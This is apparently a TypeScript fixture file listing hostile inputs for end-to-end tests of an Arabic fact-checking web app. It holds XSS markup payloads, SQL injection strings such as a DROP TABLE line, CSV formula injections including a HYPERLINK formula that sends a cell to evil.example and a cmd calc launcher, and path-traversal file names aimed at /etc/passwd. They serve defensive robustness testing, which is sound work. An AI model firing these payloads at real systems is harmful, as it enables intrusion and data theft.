// The hostile-input corpus: one list of nasty inputs, fed through every entry point that takes
// text, files, URLs or parameters (e2e/hostile/*.spec.ts, e2e/hostile/RESULTS.md). Each case is
// either text (a JS string, sent as UTF-8) or raw bytes (for what text cannot carry: invalid
// UTF-8, binary, windows-1256). Markup cases call `alert()` and set `window.__pwned`, and give
// injected elements the id `hostile-injected`, so a spec can tell executed markup apart from
// markup shown as text.
import iconv from 'iconv-lite';

export interface HostileCase {
  /** short stable name, used in test titles and RESULTS.md */
  id: string;
  /** what it is */
  label: string;
  /** the input as text (sent as UTF-8) */
  text?: string;
  /** the input as raw bytes (files, URL bodies, raw request bodies) */
  bytes?: Uint8Array;
  /** file name to use when sent as a file (default `<id>.txt`) */
  fileName?: string;
  /** large (over a limit or ≥ 100 kB): the browser-driven specs skip it, the HTTP ones send it */
  large?: boolean;
  /** markup meant to run if ever interpreted as HTML */
  markup?: boolean;
}

/** a sentence the engine extracts a claim from, so "correct result" cases store something real */
const SENTENCE = 'قال وزير المالية إن عجز الموازنة بلغ 12 مليار دولار في عام 2023.';
export const MAX_ARTICLE_BYTES = 2 * 1024 * 1024;

const PWN = `window.__pwned=1;alert(1)`;

function nested(depth: number): string {
  return '<div>'.repeat(depth) + SENTENCE + '</div>'.repeat(depth);
}

export const CORPUS: HostileCase[] = [
  // empty and blank
  { id: 'empty', label: 'empty string', text: '' },
  { id: 'spaces', label: 'whitespace only (spaces, tabs, newlines)', text: '   \n\t\r\n   ' },
  { id: 'unicode-spaces', label: 'Unicode spaces only (NBSP, em space, ideographic)', text: '\u00a0\u2003\u3000\u2007\u202f' },
  { id: 'bom-only', label: 'a lone byte-order mark', text: '\ufeff' },
  { id: 'newlines-50k', label: '50,000 empty lines', text: '\n'.repeat(50_000), large: true },
  // size
  { id: 'over-limit', label: 'one byte over the 2 MB article limit', text: 'ب'.repeat(MAX_ARTICLE_BYTES / 2) + 'x', large: true },
  // prose without figures (few claims); 2 MB of check-worthy sentences is stored by
  // lib/articles/ingest-article.test.ts and timed in bench/large-article/
  { id: 'at-limit-ascii', label: 'exactly 2 MB of ASCII prose', text: `${SENTENCE}\n${'The weather was calm and the streets were quiet that morning. '.repeat(34_000)}`.slice(0, MAX_ARTICLE_BYTES - 200), large: true },
  { id: 'line-100k', label: 'a 100,000-character line', text: `${SENTENCE} ${'ع'.repeat(100_000)}`, large: true },
  { id: 'nested-10k', label: 'HTML nested 10,000 levels deep', text: nested(10_000), fileName: 'nested-10k.html', large: true },
  // encodings and bytes
  { id: 'binary', label: 'binary (PNG header, NUL bytes)', bytes: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, ...Array.from({ length: 512 }, (_, i) => (i * 37) % 256)]) },
  { id: 'invalid-utf8', label: 'invalid UTF-8 sequences', bytes: new Uint8Array([0x41, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff, 0xfe, 0x20, 0x42]) },
  { id: 'windows-1256', label: 'Arabic in windows-1256', bytes: new Uint8Array(iconv.encode(`${SENTENCE}\nوأضاف أن الحكومة ستخفض الإنفاق بنسبة 5 في المئة خلال العام المقبل.`, 'windows-1256')) },
  { id: 'utf16le-bom', label: 'UTF-16LE with BOM', bytes: new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SENTENCE, 'utf16le')])) },
  { id: 'overlong-utf8', label: 'overlong UTF-8 encoding of "/" and NUL', bytes: new Uint8Array([0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xc0, 0x80, 0x41]) },
  { id: 'lone-surrogate', label: 'lone UTF-16 surrogates', text: `a\ud800b\udfffc ${SENTENCE}` },
  { id: 'noncharacters', label: 'Unicode noncharacters U+FFFE/U+FFFF', text: `\ufffe\uffff${SENTENCE}\ufdd0` },
  { id: 'null-bytes', label: 'NUL bytes inside text', text: `قال\u0000 الوزير\u0000 ${SENTENCE}\u0000` },
  { id: 'control-chars', label: 'C0 control characters', text: `${Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join('')}${SENTENCE}` },
  // scripts and bidi
  { id: 'mixed-scripts', label: 'Arabic, Latin, Hebrew, Cyrillic, CJK, emoji in one text', text: `${SENTENCE} The IMF said שלום Привет 中文 😀👩‍👩‍👧 ١٢٣ 123` },
  { id: 'rlo', label: 'right-to-left override U+202E and isolates', text: `\u202e${SENTENCE}\u202c txt.exe\u2066\u2067\u2068\u2069` },
  { id: 'zero-width', label: 'zero-width characters (ZWSP, ZWNJ, ZWJ, word joiner)', text: `قا\u200bل الو\u200cزير\u200d إن\u2060 ${SENTENCE}` },
  { id: 'combining-flood', label: '5,000 combining marks on one letter', text: `${SENTENCE} ب${'\u0651'.repeat(5000)}` },
  { id: 'tatweel', label: 'tatweel and diacritics everywhere', text: 'قـــــالَ وَزيـــــرُ المـــالِيَّةِ إنَّ العَجْزَ بَلَغَ ١٢ مِلْيارَ دولارٍ في عامِ ٢٠٢٣.' },
  { id: 'homoglyph', label: 'Cyrillic homoglyphs of an e-mail address', text: 'аdmin@sаdaa.example' },
  // markup
  { id: 'script', label: '<script> element', text: `<script id="hostile-injected">${PWN}</script>${SENTENCE}`, markup: true },
  { id: 'img-onerror', label: 'event-handler attribute (img onerror)', text: `<img id="hostile-injected" src="x" onerror="${PWN}">${SENTENCE}`, markup: true },
  { id: 'svg-onload', label: 'svg onload', text: `<svg id="hostile-injected" onload="${PWN}"></svg>${SENTENCE}`, markup: true },
  { id: 'javascript-link', label: 'javascript: link', text: `<a id="hostile-injected" href="javascript:${PWN}">اضغط</a> ${SENTENCE}`, markup: true },
  { id: 'attr-breakout', label: 'attribute breakout "><script>', text: `"><script id="hostile-injected">${PWN}</script><"`, markup: true },
  { id: 'iframe-srcdoc', label: 'iframe srcdoc', text: `<iframe id="hostile-injected" srcdoc="<script>parent.${PWN}</script>"></iframe>`, markup: true },
  { id: 'meta-refresh', label: 'meta refresh to javascript:', text: `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">${SENTENCE}`, markup: true },
  { id: 'style-import', label: 'style with @import and expression()', text: `<style>@import url("http://127.0.0.1:1/x.css");body{background:url(javascript:${PWN})}</style>${SENTENCE}`, markup: true },
  { id: 'entity-encoded', label: 'HTML entities of a script tag', text: `&lt;script&gt;${PWN}&lt;/script&gt; &#60;img src=x onerror=${PWN}&#62; ${SENTENCE}`, markup: true },
  { id: 'json-ld-breakout', label: '</script> inside JSON-LD', text: `</script><script id="hostile-injected">${PWN}</script>`, markup: true },
  // SQL and other injection
  { id: 'sql-drop', label: "SQL: '; DROP TABLE claims;--", text: "'; DROP TABLE claims;--" },
  { id: 'sql-or', label: "SQL: %' OR 1=1 --", text: "%' OR 1=1 --" },
  { id: 'sql-sleep', label: 'SQL: pg_sleep', text: "1'); SELECT pg_sleep(10);--" },
  { id: 'sql-like', label: 'LIKE wildcards and escapes', text: '%%__\\%\\_%' },
  { id: 'template', label: 'template syntaxes {{7*7}} ${7*7} <%= %>', text: '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}' },
  { id: 'icu', label: 'ICU message syntax', text: '{count, plural, one {x} other {y}} {0} {name}' },
  { id: 'proto', label: '__proto__ / constructor keys', text: '{"__proto__":{"polluted":1},"constructor":{"prototype":{"x":1}}}' },
  { id: 'crlf', label: 'CRLF header injection', text: 'a\r\nSet-Cookie: hostile=1\r\n\r\n<b>x</b>' },
  // CSV formulas
  { id: 'csv-hyperlink', label: 'CSV formula =HYPERLINK', text: '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
  { id: 'csv-cmd', label: "CSV formula +cmd|' /C calc'!A0", text: "+cmd|' /C calc'!A0" },
  { id: 'csv-at', label: 'CSV formula @SUM and -2+3', text: '@SUM(1+1)*cmd|\' /C calc\'!A0,-2+3' },
  // file names
  { id: 'traversal', label: 'path traversal ../../etc/passwd', text: SENTENCE, fileName: '../../../../etc/passwd.txt' },
  { id: 'traversal-win', label: 'path traversal ..\\..\\windows', text: SENTENCE, fileName: '..\\..\\..\\windows\\win.ini.txt' },
  { id: 'absolute-path', label: 'absolute path as file name', text: SENTENCE, fileName: '/etc/hostile-absolute.txt' },
  { id: 'nul-filename', label: 'NUL byte in a file name', text: SENTENCE, fileName: 'a\u0000.html.txt' },
  { id: 'long-filename', label: '1,000-character file name', text: SENTENCE, fileName: `${'ع'.repeat(1000)}.txt` },
  { id: 'rlo-filename', label: 'RLO in a file name (txt.exe shown as exe.txt)', text: SENTENCE, fileName: 'invoice\u202etxt.exe' },
  // dates and numbers
  { id: 'date-13-45', label: 'impossible date 2024-13-45', text: '2024-13-45' },
  { id: 'num-1e309', label: 'number 1e309 (Infinity)', text: '1e309' },
  { id: 'num-nan', label: 'NaN', text: 'NaN' },
  { id: 'num-neg-zero', label: '-0', text: '-0' },
  { id: 'num-arabic-sep', label: 'Arabic decimal separators only ٫٫٫', text: '٫٫٫' },
  { id: 'num-huge', label: '99999999999999999999999', text: '99999999999999999999999' },
  { id: 'num-hex', label: '0x7fffffff and negative', text: '-0x7fffffff' },
  // query-string garbage
  { id: 'long-query', label: '10,000-character query', text: 'س'.repeat(10_000) },
  { id: 'pct-garbage', label: 'percent-encoding garbage %E0%A4%A', text: '%E0%A4%A' },
  { id: 'pct-null', label: '%00 and %ZZ', text: '%00%ZZ%%%' },
  { id: 'array-param', label: 'a value that looks like an array/object param', text: 'q[]=1&q[a]=2' },
];

/** the case's bytes (text cases as UTF-8) */
export function bytesOf(c: HostileCase): Uint8Array<ArrayBuffer> {
  const b = c.bytes ?? new TextEncoder().encode(c.text ?? '');
  return new Uint8Array(b);
}

/** the case as a string (byte cases decoded as Latin-1, so every byte survives as one char) */
export function textOf(c: HostileCase): string {
  return c.text ?? Buffer.from(c.bytes ?? []).toString('latin1');
}

export function fileNameOf(c: HostileCase): string {
  return c.fileName ?? `${c.id}.txt`;
}

/** What must never appear in a response body: a stack trace or server file paths. */
export const STACK_PATTERNS: RegExp[] = [/\bat \/[\w.-]+\//, /\.tsx?:\d+/, /node_modules/, /\w*Error: [^\n<"]*\n\s+at /, /\bat async /];

export function stackTraceIn(body: string): string | null {
  for (const p of STACK_PATTERNS) {
    const m = p.exec(body);
    if (m) return body.slice(Math.max(0, m.index - 80), m.index + 120);
  }
  return null;
}
